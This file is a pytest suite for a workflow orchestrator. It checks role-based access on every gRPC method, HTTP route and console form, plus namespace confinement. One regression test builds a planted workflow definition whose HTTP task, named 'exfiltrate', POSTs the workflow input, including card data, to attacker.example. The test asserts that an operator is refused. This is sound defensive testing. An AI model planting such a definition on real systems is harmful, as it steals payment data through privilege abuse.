"""Every door into a node asks what gRPC asks (issue 22, items 1 and 7).

The gRPC method table (`orchestrator.service.access.METHOD_ROLES`: which role each method needs; a
method not listed needs admin) is the one answer to "who may do this". Checked here:

- on a real node with tokens: every gRPC method with each role's token; every route of the HTTP
  port and every console form, with each role, answer allowed or refused exactly as the gRPC
  method they stand for (tests/roles_table.py says what each stands for; in-process, each handler
  refuses by the same table and every route of the app is in it:
  tests/unit/api/test_roles_in_process.py);
- the hole itself: an operator's Conductor start carrying a `workflowDef` registered it (a
  definition `payments` version 99 of the operator's choosing, run by every start of `payments`
  without a version);
- cluster-wide operations (StepDown, forgetting a member, /metrics) need a token confined to no
  namespace, admin or not.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from typing import Any

import grpc
import httpx
import pytest

from devtools.local_cluster import wait_for_leader
from devtools.procs import ManagedProcess
from helpers import code_of, start_node_with_tokens
from roles_table import CONSOLE, OPEN, REST, SERVICES, may
from worker import WorkflowClient

TOKENS = {"admin": "walk-admin-token-0123456789", "operator": "walk-operator-token-0123456789",
          "reader": "walk-reader-token-0123456789", "worker": "walk-worker-token-0123456789",
          "confined_admin": "walk-team-a-admin-token-0123456789"}
FLOW, TASK = "walk_flow", "walk_task"


# ---------------------------------------------------------------- on a real node

@dataclass
class Walked:
    process: ManagedProcess
    endpoint: str
    http: str
    root: WorkflowClient
    workflow_id: str


@pytest.fixture(scope="module")
def walked(tmp_path_factory: pytest.TempPathFactory, etcd: Any, redis_server: Any) -> Iterator[Walked]:
    tokens = {"tokens": [
        {"name": "root", "roles": ["admin"], "token": TOKENS["admin"]},
        {"name": "ops", "roles": ["operator"], "token": TOKENS["operator"]},
        {"name": "audit", "roles": ["reader"], "token": TOKENS["reader"]},
        {"name": "any-worker", "roles": ["worker"], "token": TOKENS["worker"]},
        {"name": "a-admin", "roles": ["admin"], "namespace": "team-a", "token": TOKENS["confined_admin"]}]}
    process, endpoint, http = start_node_with_tokens(tmp_path_factory.mktemp("walk"), tokens, node_id="walked",
                                                     etcd=etcd, redis_server=redis_server)
    root = WorkflowClient([endpoint], token=TOKENS["admin"])
    try:
        wait_for_leader(root, 20.0)
        root.register_task_def({"name": TASK})
        root.register_workflow_def({"name": FLOW, "tasks": [
            {"name": "wait", "taskReferenceName": "wait", "type": "WAIT"},
            {"name": TASK, "taskReferenceName": "work"}]})
        root.register_workflow_def({"name": "payments", "tasks": [
            {"name": TASK, "taskReferenceName": "charge"}]})
        yield Walked(process, endpoint, http, root, root.start_workflow(FLOW, {}))
    finally:
        root.close()
        process.stop()


def _raw_call(channel: grpc.Channel, service: Any, method: Any, token: str) -> str:
    path = f"/{service.full_name}/{method.name}"
    metadata = (("authorization", f"Bearer {token}"),)
    try:
        if method.client_streaming:
            for _ in channel.stream_stream(path)(iter([b""]), metadata=metadata, timeout=5):
                break
        elif method.server_streaming:
            for _ in channel.unary_stream(path)(b"", metadata=metadata, timeout=5):
                break
        else:
            channel.unary_unary(path)(b"", metadata=metadata, timeout=5)
    except grpc.RpcError as error:
        return error.code().name
    return ""


def test_every_grpc_method_answers_each_role_as_the_table_says(walked: Walked) -> None:
    wrong = []
    with grpc.insecure_channel(walked.endpoint) as channel:
        for service in SERVICES.values():
            for method in service.methods:
                where = f"{service.name}/{method.name}"
                for who, token in TOKENS.items():
                    if where == "ClusterService/StepDown" and may(who, where):
                        continue   # allowed: it would step this node down (the refusals are what is walked)
                    got = _raw_call(channel, service, method, token)
                    if (got == "PERMISSION_DENIED") == may(who, where):
                        wrong.append(f"{where} as {who}: {got or 'answered'}")
    assert wrong == []


CONSOLE_OPERATIONS = {"pause": "PauseWorkflow", "resume": "ResumeWorkflow", "terminate": "TerminateWorkflow",
                      "compensate": "TerminateWorkflow", "retry": "RetryWorkflow", "restart": "RestartWorkflow",
                      "signal": "SignalTask"}
@dataclass
class Variant:
    methods: Any                      # what it must follow (see REST)
    path: str
    body: dict[str, Any]              # httpx keyword arguments
    form: bool = False                # a console form: the session's csrf is added


def _variants(method: str, template: str, rule: Any, walked: Walked) -> list[Variant]:
    fill = {"{workflow_id}": walked.workflow_id, "{name}": FLOW, "{version}": "1", "{version:int}": "1",
            "{ref}": "wait", "{status}": "COMPLETED", "{task_type}": TASK, "{task_id}": "no-such-task",
            "{node_id}": "long-gone-node"}
    path = template
    for key, value in fill.items():
        path = path.replace(key, value)
    fresh = f"walk_def_{uuid.uuid4().hex[:6]}"
    definition = {"name": fresh, "tasks": [{"name": TASK, "taskReferenceName": "t"}]}
    if template == "/static":
        return [Variant(rule, "/static/console.css", {})]
    if template == "/executions/{workflow_id}/{op}":
        return [Variant([f"WorkflowService/{grpc_name}"], path.replace("{op}", op),
                        {"data": {"reason": "walked", "output": "{}", "task": "wait"}}, form=True)
                for op, grpc_name in CONSOLE_OPERATIONS.items()]
    if template == "/executions/{workflow_id}/confirm/{op}":
        return [Variant(rule, path.replace("{op}", "pause"), {})]
    if method not in ("POST", "PUT"):
        return [Variant(rule, path, {})]
    if not template.startswith("/api/"):   # a console form (signing in as a reader, for /login)
        return [Variant(rule, path, {"data": {"input": "{}", "token": TOKENS["reader"], "next": "/cluster"}},
                        form=True)]
    bodies: dict[str, Any] = {
        "/api/token": {"keyId": "audit", "keySecret": TOKENS["reader"]},
        "/api/metadata/workflow": definition if method == "POST" else [definition],
        "/api/metadata/taskdefs": [{"name": fresh}],
        "/api/workflow": {"name": FLOW, "input": {}},
        "/api/tasks": {"taskId": "t", "workflowInstanceId": walked.workflow_id, "workerId": "w",
                       "status": "COMPLETED"},
        "/api/tasks/update-v2": {"taskId": "t", "workflowInstanceId": walked.workflow_id, "workerId": "w",
                                 "status": "COMPLETED"},
    }
    variants = [Variant(rule, path, {"json": bodies.get(template, {})})]
    if template in ("/api/workflow", "/api/workflow/execute/{name}/{version:int}"):   # a start that defines
        inline = {"name": "walk_inline", "input": {}, "workflowDef": {
            "name": "walk_inline", "version": 77, "tasks": [{"name": TASK, "taskReferenceName": "t"}]}}
        variants.append(Variant([*rule, "MetadataService/RegisterWorkflowDef"], path.replace(FLOW, "walk_inline"),
                                {"json": inline}))
    if template == "/api/workflow/execute/{name}/{version:int}":
        for variant in variants:
            variant.path += "?waitForSeconds=1"
    return variants


def _session(http: str, who: str | None) -> tuple[httpx.Client, str]:
    """A browser-like client signed in as `who` (None: nobody) and its session's form token."""
    client = httpx.Client(base_url=http, timeout=15.0, follow_redirects=False)
    if who is not None:
        page = client.get("/login")
        csrf = page.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
        signed = client.post("/login", data={"token": TOKENS[who], "csrf": csrf, "next": "/cluster"})
        assert signed.status_code == 303, signed.text
    page = client.get("/login")
    return client, page.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]


def test_every_route_and_console_form_answers_each_role_as_the_grpc_method_it_stands_for(walked: Walked) -> None:
    wrong: list[str] = []
    routes = {**REST, **CONSOLE}
    for (method, template), rule in routes.items():   # the open ones, each from a session of its own
        if rule is OPEN:
            for variant in _variants(method, template, rule, walked):
                client, csrf = _session(walked.http, None)
                with closing(client):
                    body = dict(variant.body)
                    if variant.form:
                        body["data"] = {**body["data"], "csrf": csrf}
                    answer = client.request(method, variant.path, **body)
                if answer.status_code in (401, 403) or answer.status_code >= 500:
                    wrong.append(f"{method} {variant.path} (open): {answer.status_code} {answer.text[:160]!r}")
    for who in [*TOKENS, None]:
        client, csrf = _session(walked.http, who)
        with closing(client):
            for (method, template), rule in routes.items():
                for variant in _variants(method, template, rule, walked) if rule is not OPEN else []:
                    headers = {"X-Authorization": TOKENS[who]} if who and template.startswith("/api/") else {}
                    body = dict(variant.body)
                    if variant.form:
                        body["data"] = {**body["data"], "csrf": csrf}
                    answer = client.request(method, variant.path, headers=headers, **body)
                    status = answer.status_code
                    if who is None:
                        ok = status == 401 or (status == 303 and answer.headers["location"].startswith("/login"))
                    else:
                        ok = (status not in (401, 403)) == may(who, variant.methods)
                    if not ok:
                        wrong.append(f"{method} {variant.path} as {who}: {status} {answer.text[:160]!r}")
    assert wrong == []


def test_a_confined_token_naming_another_namespace_is_refused_on_every_route(walked: Walked) -> None:
    wrong = []
    client, csrf = _session(walked.http, "confined_admin")
    with closing(client):
        for (method, template), rule in {**REST, **CONSOLE}.items():
            if rule is OPEN:
                continue
            for variant in _variants(method, template, rule, walked):
                headers = {"X-Namespace": "team-b"}
                if template.startswith("/api/"):
                    headers["X-Authorization"] = TOKENS["confined_admin"]
                body = dict(variant.body)
                if variant.form:
                    body["data"] = {**body["data"], "csrf": csrf}
                answer = client.request(method, variant.path, headers=headers, **body)
                if answer.status_code != 403:
                    wrong.append(f"{method} {variant.path}: {answer.status_code}")
    assert wrong == []


def test_an_operator_cannot_plant_a_definition_through_a_conductor_start(walked: Walked) -> None:
    """The hole: POST /api/workflow (and /api/workflow/execute) with a `workflowDef` registered it,
    from an operator's token; every start of `payments` without a version then ran version 99."""
    planted = {"name": "payments", "version": 99, "tasks": [
        {"name": "exfiltrate", "taskReferenceName": "exfiltrate", "type": "HTTP",
         "inputParameters": {"http_request": {"uri": "http://attacker.example/", "method": "POST",
                                              "body": "${workflow.input}"}}}]}
    as_operator = {"X-Authorization": TOKENS["operator"]}
    with httpx.Client(base_url=f"{walked.http}/api", timeout=15.0) as http:
        started = http.post("/workflow", json={"name": "payments", "input": {"card": "4242"}, "workflowDef": planted},
                            headers=as_operator)
        assert started.status_code == 403 and "admin" in started.json()["message"], started.text
        executed = http.post("/workflow/execute/payments/99", params={"waitForSeconds": 1},
                             json={"input": {}, "workflowDef": planted}, headers=as_operator)
        assert executed.status_code == 403 and "admin" in executed.json()["message"], executed.text
        versions = http.get("/metadata/workflow/payments", params={"version": 99},
                            headers={"X-Authorization": TOKENS["reader"]})
        assert versions.status_code == 404   # nothing was stored
    latest = walked.root.get_workflow_def("payments")
    assert latest["version"] == 1 and latest["definition"]["tasks"][0]["name"] == TASK
    with httpx.Client(base_url=f"{walked.http}/api", timeout=15.0) as http:   # an admin still may (the SDK's way)
        mine = {**planted, "name": "payments_inline", "version": 3,
                "tasks": [{"name": TASK, "taskReferenceName": "charge"}]}
        assert http.post("/workflow", json={"name": "payments_inline", "input": {}, "workflowDef": mine},
                         headers={"X-Authorization": TOKENS["admin"]}).status_code == 200


def test_cluster_wide_operations_need_a_token_confined_to_no_namespace(walked: Walked) -> None:
    """A namespace's admin is its team's: StepDown in a loop would fail the whole cluster over for
    every team, forgetting a member changes everyone's membership, /metrics names every team."""
    with WorkflowClient([walked.endpoint], token=TOKENS["confined_admin"]) as team_admin:
        assert code_of(team_admin.step_down) == "PERMISSION_DENIED"
        assert team_admin.cluster_status()["leader_id"] == "walked"   # reading it is a team's business too
    client, csrf = _session(walked.http, "confined_admin")
    with closing(client):
        forget = client.post("/cluster/members/long-gone-node/forget", data={"csrf": csrf})
        assert forget.status_code == 403
        assert client.get("/metrics").status_code == 403
